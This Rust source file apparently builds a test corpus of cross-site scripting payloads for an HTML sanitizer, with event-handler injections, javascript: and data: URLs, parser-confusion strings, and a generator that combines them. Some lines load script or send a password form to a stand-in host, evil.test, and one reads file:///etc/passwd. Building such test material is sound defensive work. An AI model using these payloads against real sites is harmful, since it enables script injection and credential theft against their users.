//! Markup that has got through somewhere: handlers on every element, addresses that run, parsers that disagree with
//! themselves, words that end what they stand in. Written for this suite, after the classes of published collections.

/// Elements somebody tried to hang a handler on, with what makes it fire by itself.
const HANDLERS: [(&str, &str); 44] = [
    ("img src=x", "onerror"),
    ("img src=x", "onload"),
    ("img src=x", "ONERROR"),
    ("img src=x", "onError"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg/onload=1", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("iframe", "onload"),
    ("iframe src=x", "onerror"),
    ("video", "onloadstart"),
    ("video src=x", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("audio controls", "oncanplay"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("input autofocus", "onfocus"),
    ("input", "oninput"),
    ("input type=image src=x", "onerror"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("keygen autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("meter", "onmouseover"),
    ("p", "onclick"),
    ("a href=#", "onclick"),
    ("a name=x", "onfocus"),
    ("span", "onpointerenter"),
    ("b", "onmouseover"),
    ("blockquote", "oncopy"),
    ("div contenteditable", "onpaste"),
    ("div style=animation-name:x", "onanimationstart"),
    ("div", "onwheel"),
    ("table background=x", "onload"),
    ("form", "onformdata"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("x-any", "onclick"),
    ("math", "onclick"),
];

/// How a handler is written so that a filter does not see it.
const SPELLINGS: [(&str, &str); 4] = [
    ("<", " {on}=alert(1)>mot"),
    ("<", "/{on}=\"alert(1)\"/>mot"),
    ("<", "\n\t{on} = 'alert`1`'>mot"),
    ("<<", "\u{c}{on}=alert(1)//\n>mot"),
];

/// Addresses that run.
const ADDRESSES: [&str; 24] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;&#97;&#118;&#97;script:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script>*/alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:http://musee.test/x",
    "filesystem:http://musee.test/x",
    "file:///etc/passwd",
];

/// Where an address may stand.
const PLACES: [(&str, &str); 4] = [
    ("<a href=\"", "\">mot</a>"),
    ("<form action=\"", "\"><button>mot</button></form>"),
    ("<iframe src=\"", "\"></iframe>"),
    ("<a href='https://a.example/' ping=\"", "\">mot</a>"),
];

/// What one parser reads in one way and another in another, and what ends the text it stands in.
const ODDITIES: [&str; 57] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onmouseover='alert(1)' x='",
    "` onmouseover=alert(1) x=`",
    "\\\" onmouseover=alert(1) \\\"",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>mot</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>mot</text></a></svg>",
    "<svg><set attributeName=onload to=alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><script>1</script></svg>#x\"/></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript>\u{feff}<p title=x",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</template></s></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<table><a href=javascript:alert(1)>mot</table>",
    "<p><table><p><style><!--</style><a title=\"--&gt;&lt;script&gt;alert(1)\">",
    "<a><form></a><form><a href=javascript:alert(1)>mot",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=import href=//evil.test/x>",
    "<style>@import '//evil.test/x.css';</style>",
    "<p style=\"background:url(//evil.test/pixel)\">mot</p>",
    "<p style=\"position:fixed;inset:0\">mot</p>",
    "<a href=\"//evil.test\" target=_top>mot</a><img src=//evil.test/pixel.png srcset=\"//evil.test/2 2x\">",
    "<input name=password type=password form=x><button form=x formaction=//evil.test>mot</button>",
    "{{7*7}}{% include \"base.html\" %}{# x #}${7*7}<%= 7*7 %>",
    "\u{202e}<img src=x onerror=alert(1)>\u{0}\u{feff}",
    "<a class=\"button primary\" id=main lang=fr href=https://a.example/>mot</a><p id=main class=danger>mot</p>",
    "<ul><li><ul><li><b><i><u><a href=https://a.example/><a href=javascript:alert(1)>mot</ul>",
];

/// All of them, each different.
pub fn vectors() -> Vec<String> {
    let handlers = HANDLERS.iter().flat_map(|(element, on)| {
        SPELLINGS
            .iter()
            .map(move |(open, rest)| format!("{open}{element}{}", rest.replace("{on}", on)))
    });
    let addresses = ADDRESSES.iter().flat_map(|address| {
        PLACES.iter().map(move |(before, after)| format!("{before}{address}{after}"))
    });
    let bare = ADDRESSES.iter().map(|address| (*address).to_owned());
    let odd = ODDITIES.iter().map(|oddity| (*oddity).to_owned());
    odd.chain(bare).chain(addresses).chain(handlers).collect()
}
